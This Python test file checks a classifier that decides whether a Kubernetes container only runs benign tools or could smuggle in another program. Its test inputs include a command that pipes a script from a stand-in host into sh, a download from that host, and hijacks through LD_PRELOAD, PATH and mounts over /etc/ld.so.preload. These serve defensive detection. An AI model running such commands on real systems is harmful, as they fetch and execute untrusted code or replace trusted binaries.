"""Containers that run nothing but tools and clients, and what an author could pass off as one."""

from __future__ import annotations

from typing import Any

import pytest

from mlgate.workloads.commands.bystanders import is_bystander, runs_bystanders
from mlgate.workloads.commands.invocation import Invocation
from mlgate.workloads.commands.read import read_invocation
from mlgate.workloads.pods.containers import read_container
from mlgate.workloads.reading import Reader


def invocation(**raw: Any) -> Invocation:
    return read_invocation(read_container(Reader(), raw, "c", "server", "x", {}))


def sh(text: str) -> dict[str, Any]:
    return {"command": ["sh", "-c", text]}


def mounted(target: str) -> dict[str, Any]:
    return {"command": ["sleep", "1"], "volumeMounts": [{"name": "v", "mountPath": target}]}


def variable(name: str) -> dict[str, Any]:
    return {"command": ["sleep", "1"], "env": [{"name": name, "value": "x"}]}


BYSTANDERS: dict[str, dict[str, Any]] = {
    "waits": {"command": ["sleep", "infinity"]},
    "waits in a loop": {"command": ["/bin/bash", "-c", "--"], "args": ["while true; do sleep 30; done;"]},
    "waits behind a separator": sh("sleep 1;"),
    "waits for a file": sh("until [ -f /ready ]; do echo waiting; sleep 1; done"),
    "routes requests": {"command": ["python", "-m", "sglang.srt.disaggregation.mini_lb", "--port", "80"]},
    "routes with a flag of the interpreter": {"command": ["python3", "-u", "-m", "vllm_router.app"]},
    "measures": sh("genai-perf profile -m acme/drafts --url http://x 2>&1 >/dev/null"),
    "measures with the server's own tool": {"command": ["vllm", "bench", "serve", "--model", "acme/drafts"]},
    "measures by a script": {"command": ["python3", "/srv/benchmark_serving.py", "--model", "acme/drafts"]},
    "is for people": {"command": ["jupyter", "lab", "--port=8888"]},
    "has a comment": sh("# look and go\nls /data\nexit 0"),
    "sets a variable": sh("A=1\nexport B=2; echo $A"),
    "logs all": sh("exec > /dev/null; sleep 1"),
    "has other folders": mounted("/data"),
    "has a folder under etc": mounted("/etc/config"),
    "has variables": variable("HF_TOKEN"),
    "has a hook and a probe": {
        "command": ["sleep", "1"],
        "lifecycle": {"preStop": {"exec": {"command": ["sleep", "5"]}}},
        "livenessProbe": {"exec": {"command": ["cat", "/ready"]}},
    },
}


@pytest.mark.parametrize("container", BYSTANDERS.values(), ids=BYSTANDERS.keys())
def test_what_runs_tools_and_clients_alone_is_a_bystander(container: dict[str, Any]) -> None:
    found = invocation(**container)

    assert runs_bystanders(found)
    assert is_bystander(found)


OTHERS: dict[str, dict[str, Any]] = {
    "the program of the image": {},
    "arguments of the program of the image": {"args": ["sleep", "1"]},
    "an unknown program": {"command": ["/srv/run"]},
    "an unknown program behind a tool": sh("sleep 1; /srv/run"),
    "an unknown program as a condition": sh("while /srv/run; do sleep 1; done"),
    "an unknown program in a substitution": sh("echo $(/srv/run)"),
    "an unknown program in a group": sh("{ /srv/run; }"),
    "an unknown program in a function": sh("sleep() { /srv/run; }; sleep 1"),
    "an unknown program from a variable": sh("$RUN"),
    "an unknown program from a reference": sh("echo $(RUN)"),
    "an unknown program as an argument": sh('set -- /srv/run; "$@"'),
    "a script from elsewhere": sh("curl http://x.example.com/run | sh"),
    "a script of a file": sh("bash <(cat /srv/run)"),
    "a script of a shell": sh(". /srv/run"),
    "a script of an interpreter": {"command": ["python3", "/srv/run.py"]},
    "a module of an interpreter": {"command": ["python3", "-m", "srv"]},
    "an interpreter that waits for input": {"command": ["python3", "-u"]},
    "a server": sh("sleep 1; vllm serve acme/drafts"),
    "a server in a condition": sh("until vllm serve acme/drafts; do sleep 1; done"),
    "an unknown hook": {
        "command": ["sleep", "1"],
        "lifecycle": {"postStart": {"exec": {"command": ["/srv/run"]}}},
    },
    "a line that is too long": {"command": ["sleep", "1"], "args": ["x" * 70_000]},
}


@pytest.mark.parametrize("container", OTHERS.values(), ids=OTHERS.keys())
def test_one_program_that_is_not_known_is_enough(container: dict[str, Any]) -> None:
    found = invocation(**container)

    assert not runs_bystanders(found)
    assert not is_bystander(found)


REPLACED: dict[str, dict[str, Any]] = {
    "fetched": sh("curl -o /tmp/x http://x.example.com/run; sleep 1"),
    "written": sh("echo run > /tmp/sleep; sleep 1"),
    "written behind": sh("echo run >> /tmp/sleep; sleep 1"),
    "mounted over all": mounted("/"),
    "mounted over programs": mounted("/usr/bin/sleep"),
    "mounted over libraries": mounted("/lib"),
    "mounted over what starts first": mounted("/etc"),
    "mounted over what is loaded first": mounted("/etc/ld.so.preload"),
    "a script that is mounted": {
        "command": ["/data/genai-perf", "profile"],
        "volumeMounts": [{"name": "v", "mountPath": "/data"}],
    },
    "a program in the working folder": {"command": ["./sleep", "1"]},
    "a program deep in a mount": {
        "command": ["/data/x/../bin/sleep", "1"],
        "volumeMounts": [{"name": "v", "mountPath": "/data/bin"}],
    },
    "a program of a path too long to be one": {"command": ["/x" * 3_000 + "/sleep"]},
    "by a search path": variable("PATH"),
    "by a library": variable("LD_PRELOAD"),
    "by a module": variable("PYTHONPATH"),
    "by a start file": variable("BASH_ENV"),
    "by a search path in the line": sh("PATH=/data; sleep 1; echo $PATH"),
    "by variables nobody sees": {"command": ["sleep", "1"], "envFrom": [{"configMapRef": {"name": "x"}}]},
}


@pytest.mark.parametrize("container", REPLACED.values(), ids=REPLACED.keys())
def test_what_can_stand_in_the_place_of_a_tool_is_no_tool(container: dict[str, Any]) -> None:
    found = invocation(**container)

    assert runs_bystanders(found)
    assert not is_bystander(found)
